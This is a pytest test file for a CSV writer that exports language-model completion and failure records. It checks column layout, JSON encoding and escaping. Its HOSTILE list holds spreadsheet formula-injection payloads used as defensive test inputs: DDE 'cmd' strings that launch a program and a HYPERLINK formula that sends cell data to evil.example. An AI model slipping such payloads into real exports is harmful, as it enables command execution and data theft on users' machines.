"""Outcomes as CSV: one record for each, that Python's csv module reads, and no formula."""

from __future__ import annotations

import csv
import io

import orjson
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from outcomes import completion, failed, written

from pipelines.outputs.formats.csv import Csv
from pipelines.tables.formulas import escaped, original
from transforms.elements import Completion, DeadLetter

NAMES = ("id", "prompt", "n")


def rows(data):
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def of(*outcomes, names=NAMES, raw=False):
    return rows(written(Csv(type(outcomes[0]), names, raw), *outcomes))


def test_a_completion_has_the_columns_of_the_input_and_then_ours():
    data = written(Csv(Completion, NAMES, False), completion("7", input={"id": 7, "prompt": "x"}))
    header, record, end = data.decode().split("\r\n")
    assert header == (
        "id,prompt,n,ritellm_id,text,finish_reason,truncated,shared,tool_calls,reasoning,model,"
        "prompt_tokens,completion_tokens,total_tokens,cached_tokens,reasoning_tokens,cost_usd,"
        "wasted_tokens,wasted_cost_usd,waste_estimated,ttft,inter_chunk_p50,inter_chunk_p95,"
        "seconds,ended_at,attempts,completion,other_input"
    )
    assert record.startswith("7,x,,7,an answer,stop,false,false,,,m-1,3,2,5,,,0.0001,0,0.0,false,")
    assert ",0.25,,,1.5,2023-11-14T22:13:20.250000Z,1," in record
    assert end == ""


def test_a_failed_row_has_its_reason_and_its_tokens():
    usage = '{"prompt_tokens":3,"prompt_tokens_details":{"cached_tokens":1},"total_tokens":"?"}'
    [row] = of(failed("b", {"id": "b", "prompt": "x"}, usage=usage))
    assert list(row)[3:] == [
        *("ritellm_id", "error_type", "message", "status_code", "retryable", "attempts"),
        *("partial_text", "prompt_tokens", "completion_tokens", "total_tokens", "cached_tokens"),
        *("reasoning_tokens", "cost_usd", "wasted_tokens", "wasted_cost_usd", "waste_estimated"),
        *("seconds", "ended_at", "other_input"),
    ]
    assert (row["error_type"], row["message"], row["status_code"]) == (
        "BadRequestError",
        "400: no",
        "400",
    )
    assert (row["prompt_tokens"], row["cached_tokens"], row["total_tokens"]) == ("3", "1", "")


HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    " =1+1",
    "\ufeff=1",
    "\uff1d1+1",
    "\uff20x",
    "'=1",
    "-- a list",
    "- an item\n- another",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_could_be_a_formula_gets_an_apostrophe(text):
    [row] = of(completion(text=text, input={"prompt": text}))
    assert row["prompt"] == row["text"] == f"'{text}"
    [row] = of(failed(input={"prompt": text}, message=text, partial_text=text))
    assert row["prompt"] == row["message"] == row["partial_text"] == f"'{text}"


@pytest.mark.parametrize("text", [*HOSTILE, "", " ", 'a "quote"', "a,b", "a\r\nb", "\x00"])
def test_raw_texts_are_as_they_are(text):
    [row] = of(completion(text=text, input={"prompt": text}), raw=True)
    assert row["prompt"] == row["text"] == text


@pytest.mark.parametrize("text", ["-5", "+1.5", "-1e-3", ".5", "a=b", "x - y", "1-2", "'quoted'"])
def test_numbers_and_other_texts_are_as_they_are(text):
    [row] = of(completion(text=text, input={"prompt": text}))
    assert row["prompt"] == row["text"] == text


def test_a_name_of_a_column_that_could_be_a_formula_gets_an_apostrophe():
    [row] = of(completion(input={"=1+1": "x"}), names=["=1+1"])
    assert row["'=1+1"] == "x"


@given(st.text())
def test_an_escaped_text_can_be_restored(text):
    assert original(escaped(text)) == text


@given(st.text("'=+-@ \t\n1.eE\ufeff\uff1d", max_size=6))
def test_an_escaped_text_of_dangerous_characters_can_be_restored(text):
    assert original(escaped(text)) == text


TEXT = st.text(st.characters(exclude_categories=["Cs"]))


@given(st.lists(st.tuples(TEXT, TEXT), min_size=1, max_size=4))
def test_any_text_is_read_again_by_the_csv_module(texts):
    outcomes = [completion(text=answer, input={"prompt": prompt}) for prompt, answer in texts]
    found = of(*outcomes, raw=True)
    assert [(row["prompt"], row["text"]) for row in found] == texts


def test_null_is_nothing_and_an_empty_text_is_quoted():
    data = written(Csv(Completion, ["a", "b"], False), completion(input={"a": None, "b": ""}))
    assert data.splitlines()[1].startswith(b',"",a,')


def test_values_of_other_types_are_json():
    values = {"a": [1, {"b": None}], "b": True, "c": 2**70, "d": 0.1}
    data = written(
        Csv(Completion, list(values), False),
        completion(input=None)._replace(
            input='{"a":[1,{"b":null}],"b":true,"c":1180591620717411303424,"d":0.1}'
        ),
    )
    [row] = rows(data)
    assert [row[name] for name in values] == [
        '[1,{"b":null}]',
        "true",
        "1180591620717411303424",
        "0.1",
    ]
    assert row["other_input"] == ""


def test_a_column_that_the_header_lacks_is_kept_as_json():
    [row] = of(completion(input={"prompt": "x", "later": [2**70 and 1]}))
    assert orjson.loads(row["other_input"]) == {"later": [1]}


def test_a_row_that_is_no_object_is_kept_whole():
    [row] = of(failed(input='"not JSON"'))
    assert (row["prompt"], row["other_input"]) == ("", '"not JSON"')


def test_ours_have_a_prefix_if_the_input_has_such_a_column():
    names = ["text", "MODEL", "ritellm_text"]
    [row] = of(completion(text="ours", input={"text": "theirs", "MODEL": "x"}), names=names)
    assert (row["text"], row["ritellm_ritellm_text"]) == ("theirs", "ours")
    assert (row["MODEL"], row["ritellm_model"]) == ("x", "m-1")


def test_tool_calls_and_reasoning_have_columns_of_their_own():
    calls = [{"id": "1", "type": "function", "function": {"name": "f", "arguments": "{}"}}]
    message = {"tool_calls": calls, "reasoning_content": "hm"}
    [row] = of(completion(message=message))
    assert (orjson.loads(row["tool_calls"]), row["reasoning"]) == (calls, "hm")


def test_arrow_reads_the_nulls_and_the_texts():
    import pyarrow.csv

    data = written(Csv(Completion, ["a", "b"], False), completion(input={"a": None, "b": ""}))
    options = pyarrow.csv.ConvertOptions(
        strings_can_be_null=True,
        quoted_strings_can_be_null=False,
        column_types={"a": pa.string(), "b": pa.string()},
    )
    [row] = pyarrow.csv.read_csv(pa.BufferReader(data), convert_options=options).to_pylist()
    assert (row["a"], row["b"]) == (None, "")


def test_a_delta_has_no_columns():
    with pytest.raises(TypeError):
        Csv(DeadLetter, [], False).encode(object())
